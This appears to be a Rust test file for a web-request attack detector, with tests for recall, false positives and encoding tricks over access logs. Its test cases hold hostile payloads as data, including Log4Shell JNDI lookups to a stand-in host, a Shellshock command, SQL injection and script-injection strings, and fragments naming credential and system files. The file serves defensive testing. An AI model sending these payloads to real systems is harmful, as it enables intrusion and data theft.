//! What counts as code and what does not, and figures over logs.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::Path;

use proptest::prelude::*;

use super::*;

const ATTACKS: &str = include_str!("tests/attacks.txt");
const ORDINARY: &str = include_str!("tests/ordinary.txt");

fn attacks() -> impl Iterator<Item = (&'static str, &'static str)> {
    ATTACKS.lines().map(|line| line.split_once(' ').unwrap())
}

fn event_of(target: &str, agent: &str, referer: &str) -> SecurityEvent<'static> {
    let mut event = SecurityEvent::new(
        model::EventId::from_u128(1),
        model::Timestamp::from_micros(0),
        model::Source::Nginx,
        model::Category::Network,
        "http_request".into(),
        model::Outcome::Success,
    );
    event.resource_id = Some(target.to_owned().into());
    event.user_agent = Some(agent.to_owned().into());
    let details = serde_json::json!({ "status": 200, "referer": referer });
    event.details = model::event::Details::from_json(details.to_string());
    event.classify()
}

#[test]
fn attacks_of_every_kind_are_found() {
    let missed: Vec<_> = attacks()
        .filter(|(_, target)| code_in_target(target).is_none())
        .collect();
    assert_eq!(missed, []);
}

#[test]
fn ordinary_requests_hold_no_code() {
    let found: Vec<_> = ORDINARY
        .lines()
        .filter_map(|target| code_in_target(target).map(|code| (target, code)))
        .collect();
    assert_eq!(found, []);
}

#[test]
fn code_in_other_fields_is_found() {
    let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
    for (agent, referer, expected) in [
        (browser, "https://shop.example/a?q=b", None),
        (browser, "android-app://com.example.search/", None),
        ("curl/8.5.0", "-", None),
        (
            "${jndi:ldap://e.example/a}",
            "",
            Some((Code::Command, Field::UserAgent)),
        ),
        (
            "() { :; }; /bin/ping -c 1 e.example",
            "",
            Some((Code::Command, Field::UserAgent)),
        ),
        ("x' or '1'='1", "", Some((Code::Sql, Field::UserAgent))),
        (
            "<script>alert(1)</script>",
            "",
            Some((Code::Script, Field::UserAgent)),
        ),
        (
            browser,
            "${${lower:j}ndi:ldap://e.example}",
            Some((Code::Command, Field::Referer)),
        ),
        (
            browser,
            "https://shop.example/?id=1'+or+'1'='1",
            Some((Code::Sql, Field::Referer)),
        ),
        (
            browser,
            "http://e.example/?x=\"><script>alert(1)</script>",
            Some((Code::Script, Field::Referer)),
        ),
    ] {
        let event = event_of("/", agent, referer);
        assert_eq!(find_code(&event), expected, "{agent} {referer}");
        assert!(
            expected.is_none() || is_suspicious(&event),
            "{agent} {referer}"
        );
    }
}

/// Whatever a client puts before its payload, the payload is judged, or that it was not is told.
#[test]
fn padding_hides_no_code() {
    let payload = "${jndi:ldap://e.example/a}";
    let found = |target: &str, agent: &str, whole_agent: Option<&str>, referer: &str| {
        let mut event = event_of(target, agent, referer);
        if let Some(whole) = whole_agent {
            let details = serde_json::json!({ "referer": referer, "user_agent": whole });
            event.details = model::event::Details::from_json(details.to_string());
        }
        let code = find_code(&event);
        assert_eq!(code.is_some(), is_suspicious(&event));
        code
    };

    let pad = "x".repeat(600);
    let whole = format!("{pad}{payload}");
    assert_eq!(
        found("/", &pad[..500], Some(&whole), ""),
        Some((Code::Command, Field::UserAgent))
    );
    assert_eq!(
        found("/", "curl", None, &whole),
        Some((Code::Command, Field::Referer))
    );

    let cut = "x".repeat(FIELD_BYTES_MAX);
    let full = |field| Some((Code::TooLong, field));
    assert_eq!(found(&cut, "curl", None, ""), full(Field::Target));
    assert_eq!(
        found("/", &cut[..500], Some(&cut), ""),
        full(Field::UserAgent)
    );
    assert_eq!(found("/", "curl", None, &cut), full(Field::Referer));

    // What is long and whole is nothing by itself.
    let long = &cut[..8000];
    let agent = &long[..500];
    let mut event = event_of(long, agent, long);
    let details = serde_json::json!({ "referer": long, "user_agent": long });
    event.details = model::event::Details::from_json(details.to_string());
    assert_eq!(find_code(&event), None);
}

/// Nobody makes a pattern that takes long to judge.
#[test]
fn a_pattern_of_many_stars_is_judged_at_once() {
    let began = std::time::Instant::now();
    for pattern in [
        "/e??/*****************************x",
        "/e??/*?*?*?*?*?*?*?*?*?*?*?*?*?*x",
    ] {
        let target = format!("/a?f={pattern}");
        for _ in 0..100 {
            assert_eq!(code_in_target(&target), None, "{target}");
        }
    }
    assert!(began.elapsed().as_secs() < 5);
}

#[test]
fn the_prefilter_passes_few_ordinary_targets() {
    for target in [
        "/",
        "/a/b-c_d.html?x=1&y=a,b",
        "/windmill?commander=1",
        "/cmds",
    ] {
        assert!(
            !prefilter::is_suspicious_target(target.as_bytes()),
            "{target}"
        );
    }
}

/// Encodes some bytes of a text as a client may.
fn encoded(text: &str, choices: &[u8]) -> String {
    let mut out = String::new();
    for (i, c) in text.chars().enumerate() {
        match choices.get(i % choices.len().max(1)).copied().unwrap_or(9) {
            0 if c.is_ascii() => write!(out, "%{:02x}", c as u32).unwrap(),
            1 if c.is_ascii() => write!(out, "%25{:02X}", c as u32).unwrap(),
            2 if c.is_ascii() => write!(out, "%u{:04x}", c as u32).unwrap(),
            3 => out.extend(c.to_uppercase()),
            _ => out.push(c),
        }
    }
    out
}

fn fragment() -> impl Strategy<Value = String> {
    let attacks: Vec<String> = attacks().map(|(_, target)| target.to_owned()).collect();
    let words: Vec<String> = path::WORDS
        .iter()
        .chain(&shell::EXPLOITS)
        .chain(&shell::CODE_WORDS)
        .chain(&shell::COMMAND_PARAMETERS)
        .map(|word| (*word).to_owned())
        .collect();
    let others = [
        "/",
        "//",
        "/./",
        "..",
        "=",
        "&",
        "?",
        "a",
        "-1",
        "or",
        "1=1",
        "'",
        "(",
        "select",
        "union",
        "passwd",
        "shadow",
        "self/environ",
        "whoami",
        "uname",
        "id",
        "sh",
        "x.example",
        "web.xml",
        "system32/cmd.exe",
        "windows/win.ini",
        "[$ne]",
        "--",
        "http:",
        "@@version",
        ".exe",
        "think",
    ];

    prop_oneof![
        2 => proptest::sample::select(attacks),
        3 => proptest::sample::select(words),
        4 => proptest::sample::select(others.to_vec()).prop_map(str::to_owned),
        1 => "[a-zA-Z0-9/_.?=&,~@!^\\[\\]-]{0,12}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn the_prefilter_passes_all_code_in_targets(
        fragments in prop::collection::vec(fragment(), 1..6),
        choices in prop::collection::vec(0_u8..40, 1..9),
    ) {
        let target = encoded(&fragments.concat(), &choices);
        let found = code_in_target(&target);
        prop_assert!(
            found.is_none() || prefilter::is_suspicious_target(target.as_bytes()),
            "{target}: {found:?}"
        );
    }

    #[test]
    fn the_prefilter_passes_all_code_in_requests(
        fields in prop::collection::vec(fragment(), 3),
        blank in any::<bool>(),
    ) {
        let [target, agent, referer] = [0, 1, 2].map(|i| {
            let gap = if blank { " " } else { "" };
            fields.get(i).map_or(String::new(), |field| format!("{field}{gap}"))
        });
        let event = event_of(&target, &agent, &referer);
        prop_assert!(find_code(&event).is_none() || is_suspicious(&event), "{event:?}");
    }

    #[test]
    fn any_text_is_judged(target in "\\PC{0,200}", bytes in prop::collection::vec(any::<u8>(), 0..99)) {
        let _ = code_in_target(&target);
        let _ = find_code(&event_of(&String::from_utf8_lossy(&bytes), &target, &target));
    }
}

/// Returns the files below a folder.
fn files_in(folder: &Path, found: &mut Vec<std::path::PathBuf>) {
    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files_in(&path, found);
        } else {
            found.push(path);
        }
    }
}

/// Returns the request of a line in the combined format.
fn request_of(line: &str) -> Option<SecurityEvent<'static>> {
    let mut parts = line.split('"');
    let request = parts.nth(1)?;
    let referer = parts.nth(1).unwrap_or_default();
    let agent = parts.nth(1).unwrap_or_default();
    let target = request.split_once(' ').map_or(request, |(_, rest)| rest);
    let target = target
        .rsplit_once(" HTTP/")
        .map_or(target, |(target, _)| target);

    Some(event_of(target, agent, referer))
}

fn requests_in(folder: &Path) -> Vec<SecurityEvent<'static>> {
    let mut files = Vec::new();
    files_in(folder, &mut files);
    files
        .iter()
        .filter_map(|file| std::fs::read(file).ok())
        .flat_map(|bytes| {
            String::from_utf8_lossy(&bytes)
                .lines()
                .filter_map(request_of)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Recall by kind and false positives over the logs in the folder that `BLUETEAM_TEST_WEB_LOGS`
/// names: access logs of ordinary days below `ordinary/`, attack lines below `sqli/`, `xss/`,
/// `traversal/` and `rce/`.
#[test]
fn figures_over_logs_are_within_the_limits() {
    let Some(folder) = std::env::var_os("BLUETEAM_TEST_WEB_LOGS") else {
        eprintln!("SKIPPED: BLUETEAM_TEST_WEB_LOGS does not name a folder of logs");
        return;
    };
    let folder = Path::new(&folder);
    let mut recall = BTreeMap::new();
    for kind in ["sqli", "xss", "traversal", "rce"] {
        let requests = requests_in(&folder.join(kind));
        let missed: Vec<_> = requests
            .iter()
            .filter(|r| !is_suspicious(r) || find_code(r).is_none())
            .filter_map(|r| r.resource_id.as_deref())
            .collect();
        let found = requests.len() - missed.len();
        println!("{kind}: {found} of {} found", requests.len());
        for target in missed {
            println!("{kind} missed: {target}");
        }
        recall.insert(kind, (found, requests.len()));
    }

    let ordinary = requests_in(&folder.join("ordinary"));
    let suspicious = ordinary.iter().filter(|r| is_suspicious(r)).count();
    let wrong: Vec<_> = ordinary
        .iter()
        .filter_map(|r| Some((find_code(r)?, r.resource_id.as_deref().unwrap_or_default())))
        .collect();
    println!(
        "ordinary: {} of {} found, {suspicious} judged: {wrong:?}",
        wrong.len(),
        ordinary.len()
    );

    assert!(wrong.len() * 100_000 <= ordinary.len(), "{wrong:?}");
    for (kind, (found, all)) in recall {
        assert!(found * 100 >= all * 95, "{kind}: {found} of {all}");
    }
}
